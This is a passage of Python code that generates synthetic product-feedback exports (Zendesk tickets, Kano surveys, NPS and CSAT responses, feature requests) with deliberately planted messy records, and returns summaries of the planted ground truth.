    out.write(name, _csv_bytes(rows), len(notes))


ZENDESK_SITE = "https://ourproduct.zendesk.com/api/v2"
JIRA_KEY_FIELD_ID = 360_012_345_671
FEATURE_FIELD_ID = 360_012_345_672
ZENDESK_USER_BASE = 36_100_000_000
ZENDESK_ORG_BASE = 36_200_000_000


def _ticket_fields() -> dict[str, Any]:
    def field_obj(field_id: int, kind: str, title: str, position: int, **extra: Any) -> dict[str, Any]:
        return {
            "url": f"{ZENDESK_SITE}/ticket_fields/{field_id}.json", "id": field_id, "type": kind, "title": title,
            "raw_title": title, "description": "", "raw_description": "", "position": position, "active": True,
            "required": False, "collapsed_for_agents": False, "regexp_for_validation": None, "title_in_portal": title,
            "raw_title_in_portal": title, "visible_in_portal": False, "editable_in_portal": False,
            "required_in_portal": False, "tag": None, "created_at": "2023-06-01T09:00:00Z",
            "updated_at": "2023-06-01T09:00:00Z", "removable": kind not in ("subject", "description", "status"),
            "key": None, "agent_description": None, **extra,
        }  # fmt: skip

    options = [
        {"id": FEATURE_FIELD_ID * 10 + i, "name": FEATURE_NAMES[k], "raw_name": FEATURE_NAMES[k], "value": k,
         "default": False}
        for i, k in enumerate(FEATURE_NAMES)
    ]  # fmt: skip
    fields = [
        field_obj(360_000_000_001, "subject", "Subject", 1),
        field_obj(360_000_000_002, "description", "Description", 2),
        field_obj(360_000_000_003, "status", "Status", 3),
        field_obj(JIRA_KEY_FIELD_ID, "text", "Jira key", 10),
        field_obj(FEATURE_FIELD_ID, "tagger", "Feature", 11, custom_field_options=options),
    ]
    return {"ticket_fields": fields, "next_page": None, "previous_page": None, "count": len(fields)}


def _zendesk(out: _Output, seed: int, requests: list[_Request], support: list[_Request]) -> dict[str, int]:
    tickets: list[tuple[_Request, dict[str, Any]]] = []
    ratings: list[dict[str, Any]] = []
    satisfaction: Counter[str] = Counter()
    everything = sorted([*requests, *support], key=lambda r: (r.at, r.user.user_id, r.title))
    support_ids = {id(r) for r in support}
    for n, r in enumerate(everything, start=1):
        u, rng = r.user, r.rng.resume()
        ticket_id = 1000 + n
        is_request = id(r) not in support_ids
        status = weighted_choice(
            rng, [("new", 0.15), ("open", 0.3), ("pending", 0.1), ("solved", 0.3), ("closed", 0.15)]
        )
        rating: dict[str, Any] = {"score": "unoffered"}
        if status in ("solved", "closed"):
            score = weighted_choice(rng, [("good", 0.5), ("bad", 0.15), ("offered", 0.35)])
            rating_id = 9_000_000 + ticket_id
            comment = "Thanks!" if score == "good" else "Still broken" if score == "bad" else None
            rating = {"id": rating_id, "score": score, "comment": comment, "reason": None}
            ratings.append({
                "url": f"{ZENDESK_SITE}/satisfaction_ratings/{rating_id}.json", "id": rating_id, "assignee_id": 361,
                "group_id": 362, "requester_id": ZENDESK_USER_BASE + u.index, "ticket_id": ticket_id, "score": score,
                "created_at": _iso(r.at + DAY), "updated_at": _iso(r.at + DAY), "comment": comment,
            })  # fmt: skip
        satisfaction[rating["score"]] += 1
        if is_request:
            tags = ["feature_request"] + ([r.feature] if r.feature else [])
            feature_value = r.feature
            jira_value = r.initiative if r.jira_key_written else None
            description = f"Hi,\n\n{r.title}. Could you add this?\n\nThanks,\n{u.name}"
        else:
            tags = ["support", "question"]
            feature_value = jira_value = None
            description = f"Hello,\n\n{r.title}\n\nRegards,\n{u.name}"
        custom = [{"id": JIRA_KEY_FIELD_ID, "value": jira_value}, {"id": FEATURE_FIELD_ID, "value": feature_value}]
        channel = weighted_choice(rng, [("email", 0.5), ("web", 0.35), ("api", 0.05), ("chat", 0.1)])
        tickets.append((r, {
            "url": f"{ZENDESK_SITE}/tickets/{ticket_id}.json", "id": ticket_id, "external_id": None,
            "via": {"channel": channel, "source": {"from": {}, "to": {}, "rel": None}},
            "created_at": _iso(r.at), "updated_at": _iso(r.at + _between(rng, 0, 2 * DAY)),
            "type": "task" if is_request else "question", "subject": r.title, "raw_subject": r.title,
            "description": description, "priority": "normal", "status": status, "recipient": None,
            "requester_id": ZENDESK_USER_BASE + u.index, "submitter_id": ZENDESK_USER_BASE + u.index,
            "assignee_id": 361, "organization_id": ZENDESK_ORG_BASE + int(u.account_id.removeprefix("acct-")),
            "group_id": 362, "collaborator_ids": [], "follower_ids": [], "email_cc_ids": [], "forum_topic_id": None,
            "problem_id": None, "has_incidents": False, "is_public": True, "due_at": None, "tags": sorted(tags),
            "custom_fields": custom, "satisfaction_rating": rating, "sharing_agreement_ids": [],
            "fields": [dict(c) for c in custom], "followup_ids": [], "ticket_form_id": 363, "brand_id": 364,
            "allow_channelback": False, "allow_attachments": True, "from_messaging_channel": False,
            "generated_timestamp": r.at + DAY,
        }))  # fmt: skip
    listing = f"{ZENDESK_SITE}/tickets.json?include=users%2Corganizations"
    half = (len(tickets) + 1) // 2
    pages = [tickets[:half], tickets[half:]]
    for p, page in enumerate(pages, start=1):
        name = f"zendesk/tickets_page_{p}.json"
        users: dict[int, dict[str, Any]] = {}
        orgs: dict[int, dict[str, Any]] = {}
        for k, (r, ticket) in enumerate(page, start=1):
            out.text(name, k, "subject", ticket["subject"])
            out.text(name, k, "description", ticket["description"])
            u = r.user
            email_only = _rng(seed, "zendesk-email-only", u.user_id).random() < P_EMAIL_ONLY
            users[ticket["requester_id"]] = {
                "id": ticket["requester_id"], "url": f"{ZENDESK_SITE}/users/{ticket['requester_id']}.json",
                "name": u.name, "email": u.email, "external_id": None if email_only else u.user_id,
                "organization_id": ticket["organization_id"], "role": "end-user", "created_at": _iso(u.signed_up_at),
            }  # fmt: skip
            org_id = ticket["organization_id"]
            orgs[org_id] = {
                "id": org_id, "url": f"{ZENDESK_SITE}/organizations/{org_id}.json",
                "name": u.account_name, "domain_names": [u.account_domain], "external_id": u.account_id,
                "created_at": "2023-06-01T09:00:00Z",
            }  # fmt: skip
        envelope = {
            "tickets": [t for _r, t in page],
            "users": [users[k] for k in sorted(users)],
            "organizations": [orgs[k] for k in sorted(orgs)],
            "next_page": f"{listing}&page={p + 1}" if p < len(pages) else None,
            "previous_page": f"{listing}&page={p - 1}" if p > 1 else None,
            "count": len(tickets),
        }
        out.write(name, _json_bytes(envelope), len(page))
    out.write("zendesk/ticket_fields.json", _json_bytes(_ticket_fields()), len(_ticket_fields()["ticket_fields"]))
    ratings.sort(key=lambda x: x["id"])
    envelope = {"satisfaction_ratings": ratings, "next_page": None, "previous_page": None, "count": len(ratings)}
    out.write("zendesk/satisfaction_ratings.json", _json_bytes(envelope), len(ratings))
    return dict(sorted(satisfaction.items()))


# --------------------------------------------------------------------------------------------------- Kano


def _archetype_pair(rng: _Draws, category: str) -> tuple[str, str]:
    """An answer pair the table classifies as category, with the spread real answers show."""
    middle = (("neutral", 0.6), ("expect", 0.2), ("live_with", 0.2))
    if category == "A":
        return "like", weighted_choice(rng, middle)
    if category == "M":
        return weighted_choice(rng, (("neutral", 0.4), ("expect", 0.4), ("live_with", 0.2))), "dislike"
    if category == "O":
        return "like", "dislike"
    if category == "I":
        return weighted_choice(rng, middle), weighted_choice(
            rng, (("neutral", 0.6), ("live_with", 0.25), ("expect", 0.15))
        )
    raise ValueError(f"no archetype for category {category!r}")


def _kano_pair(rng: _Draws, feature: str) -> tuple[str, str]:
    category, share = KANO_PLANTED[feature]
    if rng.random() < share:
        return _archetype_pair(rng, category)
    # Noise: any of the 25 pairs, so some are reverse (R) or questionable (Q).
    return KANO_ANSWERS[int(rng.random() * 5)], KANO_ANSWERS[int(rng.random() * 5)]


def _planted_shares(feature: str) -> dict[str, float]:
    category, share = KANO_PLANTED[feature]
    noise = Counter(c for row in _KANO_TABLE for c in row)
    return {c: round(share * (c == category) + (1 - share) * noise[c] / 25, 6) for c in KANO_CATEGORIES}


@dataclass(slots=True)
class _KanoRespondent:
    respondent_id: str
    user: SampleUser
    email: str
    at: int
    pairs: dict[str, tuple[str, str]]
    importance: dict[str, int]
    rng: _Stream  # resumed by the writer
    invalid: dict[str, str] = field(default_factory=dict)  # feature -> the invalid functional answer written


def _kano_respondents(
    people: Sequence[SampleUser], seed: int, end_s: int, layout: str, count: int, exclude: set[str]
) -> list[_KanoRespondent]:
    pool = [u for u in people if u.user_id not in exclude and u.signed_up_at + 2 * HOUR < end_s - HOUR]
    chosen = _rng(seed, "kano", layout, "respondents").sample(pool, min(count, len(pool)))
    out = []
    for user in chosen:
        rng = _Stream(_stream_name(seed, "kano", layout, user.user_id))
        at = _between(rng, user.signed_up_at + HOUR, end_s - HOUR)
        email = _messy_email(rng, user.email) if rng.random() < P_KANO_EMAIL else ""
        pairs = {f: _kano_pair(rng, f) for f in KANO_QUESTIONS}
        importance = {f: _between(rng, 5, 9) if KANO_PLANTED[f][0] in "AO" else _between(rng, 1, 9)
                      for f, (_fq, _dq, iq) in KANO_QUESTIONS.items() if iq}  # fmt: skip
        out.append(_KanoRespondent("", user, email, at, pairs, importance, rng.parked()))
    out.sort(key=lambda r: (r.at, r.user.user_id))
    prefix = "KW" if layout == "wide" else "KL"
    for n, r in enumerate(out, start=1):
        r.respondent_id = f"{prefix}-{n:05d}"
    return out


def _write_kano_wide(out: _Output, respondents: list[_KanoRespondent]) -> None:
    name = "kano/kano_wide.csv"
    questions = [q for qs in KANO_QUESTIONS.values() for q in qs if q]
    rows: list[list[Any]] = [["respondent_id", "email", "submitted_at", *questions]]
    for n, r in enumerate(respondents, start=1):
        cells = []
        rng = r.rng.resume()
        for feature, (_fq, _dq, iq) in KANO_QUESTIONS.items():
            functional, dysfunctional = r.pairs[feature]
            f_text = r.invalid.get(feature) or KANO_WORDINGS[functional][int(rng.random() * 2)]
            cells += [f_text, KANO_WORDINGS[dysfunctional][int(rng.random() * 2)]]
            if iq:
                cells.append(str(r.importance[feature]))
            if feature in r.invalid:
                out.bad_record(name, n, "kano_unknown_answer", KANO_QUESTIONS[feature][0], r.invalid[feature])
        rows.append([r.respondent_id, r.email, _iso(r.at), *cells])
    out.write(name, _csv_bytes(rows), len(respondents))


def _write_kano_long(out: _Output, respondents: list[_KanoRespondent]) -> None:
    name = "kano/kano_long.csv"
    rows: list[list[Any]] = [["respondent_id", "email", "submitted_at", "question", "answer"]]
    for r in respondents:
        for feature, (fq, dq, iq) in KANO_QUESTIONS.items():
            functional, dysfunctional = r.pairs[feature]
            rows.append([r.respondent_id, r.email, _iso(r.at), fq, KANO_NUMERIC[functional]])
            rows.append([r.respondent_id, r.email, _iso(r.at), dq, KANO_NUMERIC[dysfunctional]])
            if iq:
                rows.append([r.respondent_id, r.email, _iso(r.at), iq, str(r.importance[feature])])
    out.write(name, _csv_bytes(rows), len(rows) - 1)


def _kano_truth(wide: list[_KanoRespondent], long: list[_KanoRespondent], out: _Output) -> KanoTruth:
    excluded = []
    features = {}
    for feature, (category, share) in KANO_PLANTED.items():
        by_layout: dict[str, Counter[str]] = {}
        importance: list[int] = []
        for layout, respondents in (("wide", wide), ("long", long)):
            counts: Counter[str] = Counter()
            for n, r in enumerate(respondents, start=1):
                if feature in r.importance:
                    importance.append(r.importance[feature])
                if feature in r.invalid:
                    excluded.append((out.rel(f"kano/kano_{layout}.csv"), n, feature))
                    continue
                counts[kano_category(*r.pairs[feature])] += 1
            by_layout[layout] = counts
        total = by_layout["wide"] + by_layout["long"]
        realised = {c: total[c] for c in KANO_CATEGORIES}
        a, o, m, i = (realised[c] for c in "AOMI")
        base = a + o + m + i
        features[feature] = KanoFeatureTruth(
            feature=feature, initiative=FEATURE_INITIATIVES.get(feature), planted_category=category,
            planted_archetype_share=share, planted_category_shares=_planted_shares(feature),
            realised_pairs=sum(realised.values()), realised_counts=realised,
            realised_counts_by_layout={k: {c: v[c] for c in KANO_CATEGORIES} for k, v in by_layout.items()},
            dominant_category=max(KANO_CATEGORIES, key=lambda c: (realised[c], -KANO_CATEGORIES.index(c))),
            better=round((a + o) / base, 6) if base else 0.0, worse=round(-(o + m) / base, 6) if base else 0.0,
            importance_answers=len(importance),
            importance_mean=round(sum(importance) / len(importance), 6) if importance else None,
        )  # fmt: skip
    return KanoTruth(
        answers=KANO_ANSWERS, numeric_coding=dict(KANO_NUMERIC), evaluation_table=_KANO_TABLE,
        respondents_by_layout={"wide": len(wide), "long": len(long)}, features=features,
        excluded_pairs=tuple(sorted(excluded)),
    )  # fmt: skip


# --------------------------------------------------------------------------------------------------- public API


def generate_feedback(
    landing_dir: Path,
    *,
    seed: int = 7,
    start: date = date(2024, 1, 1),
    days: int = 60,
    users: int = 2000,
    analytics_mess: bool = True,
    analytics_signup_days: int | None = None,
    launches: dict[str, datetime] | None = None,
    people: tuple[SampleUser, ...] | None = None,
) -> FeedbackTruths:
    """Write every feedback export layout under ``landing_dir / "feedback"`` and return what was planted.

    The respondents are the users of ``generate_analytics(landing_dir, seed=seed, users=users, days=days,
    start=start, mess=analytics_mess, signup_days=analytics_signup_days, launches=launches)``: ``people`` when
    given (the vectorised analytics engine's users), else replayed with ``sample_users``. Same arguments, same
    bytes.
    """
    if users < 50:
        raise ValueError(f"users must be >= 50 so that every layout gets respondents; got {users}")
    landing_dir = Path(landing_dir)
    if people is None:
        people = sample_users(
            seed=seed, users=users, days=days, start=start, mess=analytics_mess, signup_days=analytics_signup_days,
            launches=launches,
        )  # fmt: skip
    start_s = int(datetime(start.year, start.month, start.day, tzinfo=UTC).timestamp())
    end_s = start_s + days * DAY
    out = _Output(landing_dir)

    # NPS: four layouts; the bad records are extra rows that never count.
    nps = _nps_responses(people, seed, end_s)
    _write_delighted_json(out, nps["delighted_json"])
    delighted_csv = list(nps["delighted_csv"])
    _insert_bad(delighted_csv, delighted_csv[0], "unparseable_date", 8)
    _write_delighted_csv(out, delighted_csv)
    product_feedback = list(nps["typeform_product_feedback"])
    _insert_bad(product_feedback, product_feedback[-1], "nps_out_of_range", 11)
    name = "typeform/product_feedback.csv"
    out.write(name, _csv_bytes(_typeform_rows(out, name, product_feedback, split=False)), len(product_feedback))
    name = "typeform/quarterly_checkin.csv"
    checkin = nps["typeform_quarterly_checkin"]
    out.write(name, _csv_bytes(_typeform_rows(out, name, checkin, split=True)), len(checkin))

    # CSAT
    csat = _csat_responses(people, seed, start_s, end_s)
    _write_surveymonkey(out, csat["surveymonkey"])
    generic = list(csat["generic_csv"])
    _insert_bad(generic, generic[0], "csat_out_of_range", 0)
    _write_csat_csv(out, generic)

    # Feature requests
    notes = _requests(people, seed, end_s, "productboard", max(1, round(users * PRODUCTBOARD_NOTES_PER_USER)))
    _write_productboard(out, notes)
    tickets = _requests(people, seed, end_s, "zendesk", max(1, round(users * ZENDESK_FEATURE_REQUESTS_PER_USER)))
    support_count = max(1, round(users * ZENDESK_SUPPORT_TICKETS_PER_USER))
    support = _requests(people, seed, end_s, "zendesk", support_count, support=True)
    zendesk_satisfaction = _zendesk(out, seed, tickets, support)

    # Kano: distinct respondents per layout; one invalid answer ("maybe") in the wide file.
    wide = _kano_respondents(people, seed, end_s, "wide", round(users * KANO_WIDE_RESPONDENTS_PER_USER), set())
    taken = {r.user.user_id for r in wide}
    long = _kano_respondents(people, seed, end_s, "long", round(users * KANO_LONG_RESPONDENTS_PER_USER), taken)
    wide[len(wide) // 2].invalid["dark_mode"] = "maybe"
    _write_kano_wide(out, wide)
    _write_kano_long(out, long)

    return FeedbackTruths(
        seed=seed, start=start, end=_utc(end_s).date(), days=days, users=users,
        plan_source="sample_generator.people.sample_users: the plan of the user's plan_upgraded event in the analytics "
        "sample, else free; every NPS respondent answers after it, so it is also the plan at response time",
        email_scheme="sample_generator.people.user_email(user_id) = <first name>.<user id>@<company domain>, "
        "lower case; "
        "exports may write it with odd case and spaces",
        nps=_nps_truth(nps), csat=_csat_truth(csat), feature_requests=_request_truth(notes, tickets, support,
        zendesk_satisfaction), kano=_kano_truth(wide, long, out), bad_records=tuple(out.bad),
        formula_like_cells=tuple(out.formula_cells), multiline_cells=out.multiline,
        records_by_file=dict(sorted(out.records.items())), files=tuple(sorted(out.files)),
    )  # fmt: skip


def _nps_truth(by_source: dict[str, list[_Response]]) -> NpsTruth:
    valid = [r for rs in by_source.values() for r in rs]  # the bad rows were inserted into copies
    by_segment: dict[str, list[int]] = defaultdict(list)
    by_month: dict[str, list[int]] = defaultdict(list)
    by_segment_month: dict[str, dict[str, list[int]]] = defaultdict(lambda: defaultdict(list))
    for r in valid:
        seg = segment_key(r.user.plan, r.user.platform)
        by_segment[seg].append(r.score)
        by_month[_month(r.at)].append(r.score)
        by_segment_month[seg][_month(r.at)].append(r.score)
    segments = [segment_key(p, q) for p in PLANS for q in PLATFORMS]
    return NpsTruth(
        question=NPS_QUESTION,
        planted_probabilities={segment_key(*k): v for k, v in NPS_PROBABILITIES.items()},
        planted_response_probability_by_plan=dict(NPS_RESPONSE_PROBABILITY),
        realised_total=NpsCounts.of(r.score for r in valid),
        realised_by_segment={s: NpsCounts.of(by_segment[s]) for s in segments},
        realised_by_month={m: NpsCounts.of(v) for m, v in sorted(by_month.items())},
        realised_by_segment_and_month={
            s: {m: NpsCounts.of(v) for m, v in sorted(by_segment_month[s].items())} for s in segments
        },
        realised_by_source={s: NpsCounts.of(r.score for r in rs) for s, rs in by_source.items()},
        score_histogram={k: v for k, v in sorted(Counter(r.score for r in valid).items())},
        email_only_responses=sum(r.email_only for r in valid),
        respondent_segments={
            r.user.user_id: segment_key(r.user.plan, r.user.platform) for r in sorted(valid, key=lambda r: r.user.index)
        },
    )


def _csat_truth(by_source: dict[str, list[_Response]]) -> CsatTruth:
    valid = [r for rs in by_source.values() for r in rs]
    satisfied = sum(r.score >= 4 for r in valid)
    histogram = Counter(r.score for r in valid)
    return CsatTruth(
        question=CSAT_QUESTION,
        planted_score_probabilities=dict(CSAT_SCORE_PROBABILITIES),
        planted_satisfied_share=round(CSAT_SCORE_PROBABILITIES[4] + CSAT_SCORE_PROBABILITIES[5], 6),
        realised_responses=len(valid),
        realised_satisfied=satisfied,
        realised_csat=round(satisfied / len(valid), 6) if valid else 0.0,
        realised_by_score={s: histogram[s] for s in sorted(CSAT_SCORE_PROBABILITIES)},
        realised_by_source={s: (len(rs), sum(r.score >= 4 for r in rs)) for s, rs in by_source.items()},
        email_only_responses=sum(r.email_only for r in valid),
    )


def _request_truth(
    notes: list[_Request], tickets: list[_Request], support: list[_Request], satisfaction: dict[str, int]
) -> FeatureRequestTruth:
    requests = [*notes, *tickets]
    by_initiative = {}
    for key in INITIATIVE_VOTE_WEIGHTS:
        mine = [r for r in requests if r.initiative == key]
        vendors = ("productboard", "zendesk")
        by_initiative[key] = InitiativeRequests(
            requests=len(mine),
            unique_users=len({r.user.user_id for r in mine}),
            unique_accounts=len({r.user.account_id for r in mine if r.account_written}),
            by_vendor={v: sum(r.vendor == v for r in mine) for v in vendors},
            unique_accounts_by_vendor={
                v: len({r.user.account_id for r in mine if r.vendor == v and r.account_written}) for v in vendors
            },
            by_link={
                "jira_key": sum(r.jira_key_written for r in mine),
                "feature_name": sum(not r.jira_key_written for r in mine),
            },
        )
    return FeatureRequestTruth(
        planted_initiative_weights=dict(INITIATIVE_VOTE_WEIGHTS),
        planted_linked_share=P_REQUEST_LINKED,
        feature_initiatives=dict(FEATURE_INITIATIVES),
        feature_names=dict(FEATURE_NAMES),
        realised_by_initiative=by_initiative,
        unlinked_requests=sum(r.initiative is None for r in requests),
        requests_by_vendor={"productboard": len(notes), "zendesk": len(tickets)},
        zendesk_support_tickets=len(support),
        zendesk_satisfaction=satisfaction,
    )
